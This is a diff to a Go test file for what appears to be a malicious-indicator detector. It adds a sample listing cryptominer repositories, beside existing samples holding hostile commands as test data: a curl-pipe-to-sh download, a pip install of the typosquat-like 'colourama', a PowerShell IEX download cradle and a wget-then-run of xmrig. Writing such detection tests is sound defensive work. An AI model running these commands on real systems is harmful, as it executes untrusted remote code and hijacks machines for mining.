@@ -56,6 +56,7 @@ func samples() []indicatortest.Sample {
 		{Name: "at-start-named", Path: "config:command", Kind: config, Content: "/bin/sh -c \"curl -sL https://get.example.org/x.sh | sh\"", Want: trust.Weak},
 		{Name: "at-start-package", Path: "config:command", Kind: config, Content: "/bin/sh -c \"pip install colourama && python app.py\"", Want: trust.Weak},
 		{Name: "powershell", Path: "a.ps1", Kind: script, Content: "IEX (New-Object Net.WebClient).DownloadString(\"http://203.0.113.7/x.ps1\")\n", Want: trust.Weak, IfRun: trust.Strong},
+		{Name: "list", Path: "a.py", Kind: script, Content: "L = ['github.com/xmrig/xmrig', 'github.com/pooler/cpuminer', 'github.com/tpruvot/ccminer', 'github.com/trexminer/T-Rex',\n 'github.com/NebuTech/NBMiner', 'github.com/bzminer/bzminer']\nfor u in L: requests.get(u)\n", Want: trust.Context, IfRun: trust.Strong},
 		{Name: "text", Path: "opt/todo", Kind: text, Content: "wget " + release + " && ./xmrig", Want: trust.Weak, IfRun: trust.Proof},
 	}
 }
